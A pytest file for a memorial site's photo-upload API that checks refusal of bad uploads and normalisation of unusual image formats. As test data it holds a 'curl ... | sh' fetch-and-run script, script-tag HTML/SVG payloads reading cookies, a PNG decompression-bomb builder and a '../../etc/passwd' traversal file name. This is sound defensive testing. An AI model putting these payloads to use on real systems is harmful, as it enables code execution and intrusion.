"""Bad inputs a person may upload, sent through the JSON upload endpoint as a browser would.

Every refusal must carry a specific sentence for a person and leave nothing behind:
no Photo row and no new file under MEDIA_ROOT. Pictures that are unusual but real
(CMYK, 16-bit, animated, WebP, TIFF, HEIC, rotated) are accepted and normalised.
Bodies are encoded by hand so that file names reach the server exactly as sent.
"""

from __future__ import annotations

import io
import struct
import zlib
from pathlib import Path

import numpy as np
import pytest
from django.conf import settings
from PIL import Image, ImageOps
from pillow_heif import register_heif_opener

from memorial.memorials.models import Photo
from tests import images

register_heif_opener()
BOUNDARY = "memorial-test-boundary-7f3a"


def multipart(fields: dict[str, str], files: list[tuple[str, str, bytes]]) -> bytes:
    parts = []
    for name, value in fields.items():
        parts.append(
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'.encode()
            + value.encode()
            + b"\r\n"
        )
    for name, filename, data in files:
        parts.append(
            f"--{BOUNDARY}\r\nContent-Disposition: form-data; "
            f'name="{name}"; filename="{filename}"\r\n'
            "Content-Type: image/jpeg\r\n\r\n".encode()
            + data
            + b"\r\n"
        )
    parts.append(f"--{BOUNDARY}--\r\n".encode())
    return b"".join(parts)


def stored_files() -> set[Path]:
    root = Path(settings.MEDIA_ROOT)
    return {p for p in root.rglob("*") if p.is_file()} if root.exists() else set()


@pytest.fixture
def api(family, client_as):
    """Upload through the API as the memorial's owner."""
    client = client_as(family.owner)
    url = f"/api/memorials/{family.memorial.pk}/photos/"

    class Api:
        def upload(self, data: bytes | None, name: str = "photo.jpg", **fields: str | None):
            """Send one file; a field given as None is left out of the form."""
            fields = {"attested": "true", **fields}
            files = [] if data is None else [("file", name, data)]
            return client.post(
                url,
                data=multipart({k: v for k, v in fields.items() if v is not None}, files),
                content_type=f"multipart/form-data; boundary={BOUNDARY}",
            )

        def stored(self, response) -> Photo:
            assert response.status_code == 201, response.content
            return Photo.objects.get(pk=response.json()["id"])

    return Api()


def stored_image(photo: Photo, field: str = "image") -> Image.Image:
    with getattr(photo, field).open("rb") as handle:
        image = Image.open(io.BytesIO(handle.read()))
        image.load()
    return image


def assert_refused(response, status: int, *phrases: str) -> str:
    """The status, one readable sentence naming the problem, and JSON, not a debug page."""
    assert response.status_code == status, response.content
    assert response["Content-Type"].startswith("application/json")
    detail = response.json()["detail"]
    assert detail.endswith("."), detail
    assert 10 < len(detail) < 300, detail
    for bad in ("Traceback", "Exception", "Error", "<", "None"):
        assert bad not in detail, detail
    for phrase in phrases:
        assert phrase.lower() in detail.lower(), detail
    return detail


@pytest.fixture
def nothing_stored(family):
    """Assert after the test that no photo row and no file appeared."""
    photos, files = Photo.objects.count(), stored_files()
    yield
    assert Photo.objects.count() == photos
    assert stored_files() == files


# --- Pictures made by hand, byte by byte, so they can lie about their size cheaply.


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of_one_colour(width: int, height: int, *, rows: int | None = None) -> bytes:
    """A 1-bit greyscale PNG declaring width×height; `rows` limits the pixel data actually sent."""
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    compressor = zlib.compressobj(9)
    row = b"\x00" * (1 + (width + 7) // 8)
    body = b"".join(compressor.compress(row) for _ in range(height if rows is None else rows))
    idat = body + compressor.flush()
    return (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")
    )


PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b'<script>alert(1)</script><rect width="10" height="10"/></svg>'
)
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SCRIPT = b"#!/bin/sh\ncurl https://example.invalid/x | sh\n"
NOT_A_PICTURE = "not a picture Memorial can read"


# --- Refused, with nothing stored.


@pytest.mark.django_db
@pytest.mark.usefixtures("nothing_stored")
class TestRefused:
    def test_zero_byte_file(self, api):
        assert_refused(api.upload(b""), 400, "empty")

    def test_truncated_jpeg(self, api):
        data = images.jpeg(seed=3, width=800, height=600)
        assert_refused(api.upload(data[: len(data) // 2]), 400, "damaged or incomplete")

    @pytest.mark.parametrize(
        ("content", "name"),
        [
            (HTML, "page.jpg"),
            (SCRIPT, "holiday.jpg"),
            (SVG, "drawing.svg"),
            (SVG, "drawing.jpg"),
            (PDF, "scan.pdf"),
            (PDF, "scan.jpg"),
        ],
        ids=["html-as-jpg", "script-as-jpg", "svg", "svg-as-jpg", "pdf", "pdf-as-jpg"],
    )
    def test_not_a_picture_whatever_its_name(self, api, content, name):
        detail = assert_refused(api.upload(content, name), 415, NOT_A_PICTURE)
        assert "JPEG" in detail  # says what to use instead

    def test_png_decompression_bomb(self, api):
        bomb = png_of_one_colour(100_000, 100_000, rows=8)
        assert len(bomb) < 1000
        assert_refused(api.upload(bomb, "bomb.png"), 413, "megapixels", "smaller")

    def test_20000_by_20000_picture(self, api):
        data = png_of_one_colour(20_000, 20_000)
        assert len(data) < 200_000  # cheap to send, 400 megapixels to decode
        assert_refused(api.upload(data, "huge.png"), 413, "400 megapixels", "limit of 50")

    def test_just_over_the_pixel_limit_names_the_size(self, api):
        data = png_of_one_colour(8_000, 7_000)
        assert_refused(api.upload(data, "big.png"), 413, "8000×7000", "50 megapixels")

    def test_file_over_the_size_limit(self, api, settings):
        settings.UPLOAD_MAX_BYTES = 100_000
        noise = np.random.default_rng(0).integers(0, 256, (400, 400, 3), dtype=np.uint8)
        data = images.encode(Image.fromarray(noise), "JPEG", quality=95)
        assert len(data) > settings.UPLOAD_MAX_BYTES
        assert_refused(api.upload(data), 413, "limit", "KB")

    @pytest.mark.parametrize("attested", [None, "false", ""], ids=["left-out", "false", "blank"])
    def test_missing_attestation(self, api, attested):
        response = api.upload(images.jpeg(seed=4), attested=attested)
        assert_refused(response, 400, "right to share")

    def test_no_file(self, api):
        assert_refused(api.upload(None, caption="Rose"), 400, "Choose a photo to upload.")

    def test_two_files_in_one_request(self, api, family, client_as):
        body = multipart(
            {"attested": "true"},
            [("file", "a.jpg", images.jpeg(seed=5)), ("file", "b.jpg", images.jpeg(seed=6))],
        )
        response = client_as(family.owner).post(
            f"/api/memorials/{family.memorial.pk}/photos/",
            data=body,
            content_type=f"multipart/form-data; boundary={BOUNDARY}",
        )
        assert_refused(response, 400, "one photo per request")

    def test_json_instead_of_a_form(self, family, client_as):
        response = client_as(family.owner).post(
            f"/api/memorials/{family.memorial.pk}/photos/",
            data={"file": "aGVsbG8=", "attested": True},
            content_type="application/json",
        )
        assert_refused(response, 415, "application/json")

    def test_unknown_field(self, api):
        assert_refused(api.upload(images.jpeg(seed=7), album="x"), 400, "album")

    def test_bad_date(self, api):
        assert_refused(api.upload(images.jpeg(seed=8), taken_on="31/12/1960"), 400, "YYYY-MM-DD")

    def test_caption_too_long(self, api):
        assert_refused(api.upload(images.jpeg(seed=9), caption="x" * 1001), 400, "caption")


@pytest.mark.django_db
def test_duplicate_names_the_first_photo(api, family):
    data = images.jpeg(seed=10)
    first = api.stored(api.upload(data, "rose-at-the-lake-1962.jpg"))
    photos, files = Photo.objects.count(), stored_files()

    response = api.upload(data, "IMG_0001.jpg", caption="another caption")

    assert_refused(response, 409, "rose-at-the-lake-1962.jpg", "already in the memorial")
    assert response.json()["existing"] == str(first.pk)
    assert Photo.objects.count() == photos
    assert stored_files() == files


@pytest.mark.django_db
def test_retrying_after_a_failure_stores_exactly_one_photo(api):
    """A connection that broke mid-upload sends half a file; the retry must not double up."""
    data = images.jpeg(seed=11, width=800, height=600)
    files = stored_files()

    assert_refused(api.upload(data[: len(data) // 3], "lake.jpg"), 400, "damaged")
    first = api.stored(api.upload(data, "lake.jpg"))
    assert_refused(api.upload(data, "lake.jpg"), 409, "lake.jpg")

    assert list(Photo.objects.values_list("pk", flat=True)) == [first.pk]
    assert len(stored_files() - files) == 3  # original, display, thumbnail: once


# --- Accepted, converted.


def _close(pixel, expected, tolerance: int = 6) -> bool:
    return all(abs(a - b) <= tolerance for a, b in zip(pixel, expected, strict=True))


@pytest.mark.django_db
def test_cmyk_jpeg_is_shown_as_rgb(api):
    cmyk = Image.new("RGB", (64, 48), (200, 30, 30)).convert("CMYK")
    assert cmyk.mode == "CMYK"
    photo = api.stored(api.upload(images.encode(cmyk, "JPEG", quality=95), "print.jpg"))
    assert stored_image(photo).mode == "CMYK"  # the original as sent (tests/test_originals.py)
    stored = stored_image(photo, "display")
    assert stored.mode == "RGB"
    assert _close(stored.getpixel((32, 24)), (200, 30, 30), tolerance=12)


@pytest.mark.django_db
def test_16_bit_greyscale_png_is_shown_as_8_bit_rgb_that_looks_the_same(api):
    levels = np.array([[0, 32768, 65535]], dtype=np.uint16).repeat(16, axis=0).repeat(16, axis=1)
    source = Image.fromarray(levels)
    assert source.mode == "I;16"
    photo = api.stored(api.upload(images.encode(source, "PNG"), "scan16.png"))
    assert stored_image(photo).mode == "I;16"  # the original keeps its 16 bits
    stored = stored_image(photo, "display")
    assert stored.mode == "RGB"
    assert _close(stored.getpixel((8, 8)), (0, 0, 0))
    assert _close(stored.getpixel((24, 8)), (128, 128, 128))  # mid-grey stays mid-grey
    assert _close(stored.getpixel((40, 8)), (255, 255, 255))


@pytest.mark.django_db
def test_animated_gif_keeps_its_first_frame(api):
    red, blue = Image.new("RGB", (64, 48), (220, 0, 0)), Image.new("RGB", (64, 48), (0, 0, 220))
    data = images.encode(red, "GIF", save_all=True, append_images=[blue], duration=100, loop=0)
    assert Image.open(io.BytesIO(data)).n_frames == 2
    photo = api.stored(api.upload(data, "wave.gif"))
    assert (photo.width, photo.height) == (64, 48)
    for field in ("image", "display"):
        first = stored_image(photo, field).convert("RGB").getpixel((32, 24))
        assert _close(first, (220, 0, 0), tolerance=12)


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("fmt", "name"), [("WEBP", "phone.webp"), ("TIFF", "scan.tif"), ("HEIF", "iphone.heic")]
)
def test_other_picture_formats_are_accepted(api, fmt, name):
    source = images.picture(320, 240, seed=12)
    photo = api.stored(api.upload(images.encode(source, fmt, quality=95), name))
    # TIFF and WebP originals are kept in their own format; HEIC's is a JPEG.
    assert stored_image(photo).format == {"HEIF": "JPEG"}.get(fmt, fmt)
    stored = stored_image(photo, "display")
    assert stored.format == "JPEG" and stored.mode == "RGB"
    assert (photo.width, photo.height) == stored.size == (320, 240)
    assert photo.original_filename == name
    # The same picture, not just some picture: compare a downscaled copy.
    expected = np.asarray(source.resize((32, 24)), dtype=float)
    actual = np.asarray(stored.resize((32, 24)), dtype=float)
    assert np.abs(expected - actual).mean() < 8


@pytest.mark.django_db
def test_exif_orientation_is_applied_and_gps_removed_from_every_size(api):
    exif = Image.Exif()
    exif[0x0112] = 6  # the camera was held sideways: rotate 90° clockwise to view
    exif[0x8825] = {1: "N", 2: (51.0, 30.0, 0.0), 3: "W", 4: (0.0, 7.0, 0.0)}
    data = images.jpeg(seed=13, width=640, height=480, exif=exif.tobytes())
    assert Image.open(io.BytesIO(data)).getexif().get_ifd(0x8825)  # the GPS went in

    response = api.upload(data, "sideways.jpg")

    photo = api.stored(response)
    assert (photo.width, photo.height) == (480, 640)
    assert (response.json()["width"], response.json()["height"]) == (480, 640)
    for field in ("image", "display", "thumbnail"):
        with getattr(photo, field).open("rb") as handle:
            raw = handle.read()
        stored = Image.open(io.BytesIO(raw))
        if field == "image":
            # The original keeps its own pixels as the camera stored them, and the one tag
            # that says which way is up; the GPS and everything else are gone.
            assert dict(stored.getexif()) == {0x0112: 6}
            stored = ImageOps.exif_transpose(stored)
        else:
            assert not stored.getexif()
            assert b"Exif" not in raw[:4096]
        assert stored.height > stored.width


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("../../etc/passwd.jpg", "passwd.jpg"),
        ("C:\\Users\\rose\\Pictures\\lake.jpg", "lake.jpg"),
        ("ro\x1bse\x07 at the\x7f lake\x00.jpg", "rose at the lake.jpg"),
        ("a" * 300 + ".jpeg", None),
    ],
    ids=["slashes", "backslashes", "control-characters", "300-characters"],
)
def test_file_names_are_stored_cleaned(api, sent, kept):
    response = api.upload(images.jpeg(seed=14), sent)
    photo = api.stored(response)
    name = response.json()["original_filename"]
    assert name == photo.original_filename
    if kept is not None:
        assert name == kept
    else:
        assert 10 < len(name) <= 200 and name.endswith(".jpeg") and set(name[:-5]) == {"a"}
    assert "/" not in name and "\\" not in name
    assert all(ch.isprintable() for ch in name)
    # Storage keys never carry what the person typed.
    for field in (photo.image, photo.display, photo.thumbnail):
        folder = f"memorials/{photo.memorial_id}/photos/{photo.pk}/"
        assert field.name.startswith(folder)
        stored = field.name.removeprefix(folder)  # random ids may hold "aaaa" by chance
        assert "passwd" not in stored and "aaaa" not in stored


@pytest.mark.django_db
def test_caption_with_html_is_stored_verbatim_and_returned_as_text(api, family, client_as):
    caption = '<script>alert("x")</script> Rose & <b>Ben</b> at "the lake"'
    response = api.upload(images.jpeg(seed=15), caption=caption, place="<i>Lake</i>")
    photo = api.stored(response)
    assert photo.caption == caption and photo.place == "<i>Lake</i>"
    assert response.json()["caption"] == caption

    fetched = client_as(family.viewer).get(f"/api/photos/{photo.pk}/")
    assert fetched["Content-Type"].startswith("application/json")
    assert fetched.json()["caption"] == caption
